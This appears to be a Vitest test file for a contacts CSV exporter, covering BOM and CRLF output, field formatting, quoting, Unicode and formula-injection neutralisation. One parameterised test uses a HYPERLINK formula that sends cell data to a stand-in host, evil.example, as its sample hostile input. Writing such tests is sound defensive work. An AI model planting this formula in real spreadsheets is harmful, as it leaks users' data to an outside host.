import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { Contact } from '../../lib/db/schema';
import { defaultLadder } from '../../lib/domain/default-ladder';
import {
  contactsCsvHeader,
  contactsCsvRows,
  contactsToCsv,
  csvColumns,
  neutraliseFormula,
  UTF8_BOM,
  type ContactExportContext,
} from '../../lib/io/contacts-csv-export';
import { account, contact } from '../domain/builders';

const acme = account({ id: 'acme', name: 'Acme, Inc.', revenue: 1_250_000, potential: 3_000_000 });
const context: ContactExportContext = { accounts: new Map([[acme.id, acme]]), ladder: defaultLadder };

/** The file's rows as a spreadsheet reads them (BOM removed, CRLF records). */
function parse(csv: string): string[][] {
  expect(csv.startsWith(UTF8_BOM)).toBe(true);
  const result = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', delimiter: ',' });
  expect(result.errors).toEqual([]);
  return result.data.filter((row) => !(row.length === 1 && row[0] === ''));
}

/** One contact's row as an object keyed by column name. */
function rowOf(c: Contact): Record<string, string> {
  const [header, row] = parse(contactsToCsv([c], context));
  return Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
}

describe('contacts as CSV', () => {
  it('starts with a UTF-8 BOM and the header, and ends every record with CRLF', () => {
    const csv = contactsToCsv([contact({ name: 'Ann' }), contact({ name: 'Bob' })], context);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(
      csv.startsWith(
        `${UTF8_BOM}Name,Emails,LinkedIn URLs,Account,Account revenue,Account potential,Level,Roles,Seniority,Headline,`,
      ),
    ).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines).toHaveLength(4); // header, two contacts, and '' after the last CRLF
    expect(lines[3]).toBe('');
    expect(csv.slice(1).replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(contactsCsvHeader()).toBe(`${UTF8_BOM}${csvColumns.join(',')}\r\n`);
  });

  it('an empty list is the header alone', () => {
    expect(contactsToCsv([], context)).toBe(contactsCsvHeader());
    expect(contactsCsvRows([], context)).toBe('');
  });

  it('writes the values a spreadsheet or CRM expects: level name, account name, LinkedIn URLs, lists', () => {
    const row = rowOf(
      contact({
        name: 'Ann Lee',
        emails: ['ann@acme.example', 'ann.lee@home.example'],
        linkedinSlugs: ['ann-lee-1a2b', 'jörg-müller'],
        accountId: 'acme',
        levelId: 'client',
        roles: ['decision-maker', 'champion'],
        seniority: 'senior',
        headline: 'VP Sales',
        interests: ['sailing', 'jazz'],
        motivations: ['growth'],
        tags: ['vip', 'emea'],
        cadenceDays: 30,
        left: true,
        createdAt: Date.UTC(2024, 0, 2, 12),
        updatedAt: Date.UTC(2025, 5, 16, 12),
      }),
    );
    expect(row).toEqual({
      Name: 'Ann Lee',
      Emails: 'ann@acme.example; ann.lee@home.example',
      'LinkedIn URLs':
        'https://www.linkedin.com/in/ann-lee-1a2b/; https://www.linkedin.com/in/j%C3%B6rg-m%C3%BCller/',
      Account: 'Acme, Inc.',
      'Account revenue': '1250000',
      'Account potential': '3000000',
      Level: 'Client',
      Roles: 'Decision maker; Champion',
      Seniority: 'Senior management',
      Headline: 'VP Sales',
      Interests: 'sailing; jazz',
      Motivations: 'growth',
      Tags: 'vip; emea',
      'Cadence days': '30',
      'Left account': 'Yes',
      Created: '2024-01-02',
      Updated: '2025-06-16',
    });
  });

  it('leaves empty what is not known, and reads a level no longer on the ladder as the lowest', () => {
    const row = rowOf(
      contact({ name: 'Bo', accountId: 'gone', levelId: 'removed-level', headline: undefined }),
    );
    expect(row).toMatchObject({
      Account: '',
      'Account revenue': '',
      'Account potential': '',
      Level: 'Prospect',
      Roles: '',
      Seniority: '',
      Headline: '',
      'Cadence days': '',
      'Left account': 'No',
    });
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'neutralises a cell starting with %j by a leading quote',
    (trigger) => {
      const value = `${trigger}HYPERLINK("http://evil.example?"&A1,"Click")`;
      const row = rowOf(contact({ name: value, headline: value, tags: [`${trigger}1+1`] }));
      expect(row.Name).toBe(`'${value}`);
      expect(row.Headline).toBe(`'${value}`);
      expect(row.Tags).toBe(`'${trigger}1+1`);
    },
  );

  it('leaves a trigger character inside a value alone', () => {
    const row = rowOf(contact({ name: 'Ann = Bob', headline: 'VP - Sales @ Acme +1' }));
    expect(row.Name).toBe('Ann = Bob');
    expect(row.Headline).toBe('VP - Sales @ Acme +1');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula('')).toBe('');
  });

  it('quotes commas, quotes and line breaks so they stay in their cell', () => {
    const headline = 'Says "hi", then\nleaves';
    const csv = contactsToCsv([contact({ name: 'Smith, Jane', headline })], context);
    expect(csv).toContain('"Smith, Jane"');
    expect(csv).toContain('"Says ""hi"", then\nleaves"');
    const row = rowOf(contact({ name: 'Smith, Jane', headline }));
    expect(row.Name).toBe('Smith, Jane');
    expect(row.Headline).toBe(headline);
  });

  it('keeps accents and CJK characters as they are (UTF-8, no escapes)', () => {
    const csv = contactsToCsv(
      [contact({ name: 'José Müller-Lüdenscheidt', headline: '王小明 · 東京' })],
      context,
    );
    expect(csv).toContain('José Müller-Lüdenscheidt,');
    expect(csv).toContain('王小明 · 東京');
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('any name and headline come back from a CSV parser as written, or quote-prefixed when formula-like', () => {
    fc.assert(
      fc.property(
        fc.string({ minLength: 1, maxLength: 40 }),
        fc.string({ maxLength: 40 }),
        (name, headline) => {
          const row = rowOf(contact({ name, headline }));
          const expected = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
          expect(row.Name).toBe(expected(name));
          expect(row.Headline).toBe(expected(headline));
        },
      ),
    );
  });
});
